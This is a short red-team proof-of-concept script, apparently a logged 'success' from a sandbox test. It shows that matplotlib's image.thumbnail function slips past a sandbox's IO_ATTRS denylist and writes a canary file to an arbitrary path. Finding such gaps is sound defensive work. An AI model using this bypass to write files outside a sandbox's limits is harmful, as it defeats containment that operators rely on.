# (f) matplotlib.image.thumbnail(infile, thumbfile) is not in IO_ATTRS: writes any path; driver sees {CANARY}.pwned_thumb.png created
# red team 2026-12-07, docs/redteam-2026-12-07/success_28_mpl_thumbnail_write.py.txt
import matplotlib

matplotlib.use("Agg")
import matplotlib.pyplot as plt
import matplotlib.image as mimage
import numpy as np

plt.imsave("in.png", np.zeros((10, 10)))
mimage.thumbnail("in.png", "{CANARY}.pwned_thumb.png", scale=0.5)
